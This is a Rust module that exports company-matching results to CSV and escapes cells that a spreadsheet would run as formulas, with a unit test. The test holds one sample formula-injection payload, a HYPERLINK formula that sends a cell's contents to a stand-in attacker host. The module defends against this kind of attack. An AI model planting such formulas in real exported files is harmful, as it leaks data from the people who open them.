//! The table as a file for a spreadsheet.

use std::fs::File;
use std::io::Write;
use std::path::Path;

use anyhow::Context;

use super::line::Line;

/// Makes the file, or says why it cannot be made.
pub(super) fn open(path: &Path) -> anyhow::Result<File> {
    File::create(path).with_context(|| format!("{} cannot be written", path.display()))
}

/// Writes the companies; every text cell is one that a spreadsheet takes for a text.
pub(super) fn write(out: impl Write, lines: &[Line]) -> anyhow::Result<()> {
    let mut sheet = csv::Writer::from_writer(out);
    sheet.write_record([
        "company_id",
        "company",
        "state",
        "matched_by",
        "client_id",
        "client",
        "tax_id",
        "why",
    ])?;
    for line in lines {
        let id = line.company_id.to_string();
        let texts = [
            line.company.as_str(),
            line.state,
            line.matched_by.as_str(),
            line.client_id.as_str(),
            line.client.as_str(),
            line.tax_id.as_str(),
            line.why.as_str(),
        ];
        let cells = std::iter::once(id).chain(texts.map(plain));
        sheet.write_record(cells.collect::<Vec<_>>())?;
    }
    sheet.flush()?;
    Ok(())
}

/// A cell that begins like a formula is run by the spreadsheet it is opened in, with the rights of
/// whoever opens it; an apostrophe makes it a text.
fn plain(text: &str) -> String {
    let begins = text.trim_start_matches([' ', '\u{a0}']).chars().next();
    match begins {
        Some('=' | '+' | '-' | '@' | '\t' | '\r' | '\n' | '＝' | '＋' | '－' | '＠') => {
            format!("'{text}")
        }
        _ => text.to_owned(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn line(company: &str, why: &str) -> Line {
        Line {
            company_id: 5,
            company: company.to_owned(),
            state: "not_found",
            matched_by: String::new(),
            client_id: String::new(),
            client: String::new(),
            tax_id: "7701234507".to_owned(),
            why: why.to_owned(),
        }
    }

    #[test]
    fn a_name_that_is_a_formula_stays_a_name() {
        let formula = "=HYPERLINK(\"http://evil.example?\"&A1,\"click\")";
        let lines = [
            line(formula, "empty"),
            line(" +7 495", "@SUM(1)"),
            line("\tx", "-2+3"),
            line("Müller, Söhne; \"GmbH\"\nBerlin", "a"),
        ];
        let mut file = Vec::new();
        write(&mut file, &lines).unwrap();
        let mut sheet = csv::Reader::from_reader(file.as_slice());
        let cells: Vec<(String, String)> = sheet
            .records()
            .map(|record| record.unwrap())
            .map(|record| (record[1].to_owned(), record[7].to_owned()))
            .collect();
        let wanted = [
            (format!("'{formula}"), "empty"),
            ("' +7 495".to_owned(), "'@SUM(1)"),
            ("'\tx".to_owned(), "'-2+3"),
            ("Müller, Söhne; \"GmbH\"\nBerlin".to_owned(), "a"),
        ];
        let wanted = wanted.map(|(company, why)| (company, why.to_owned()));
        assert_eq!(cells, wanted);
    }
}
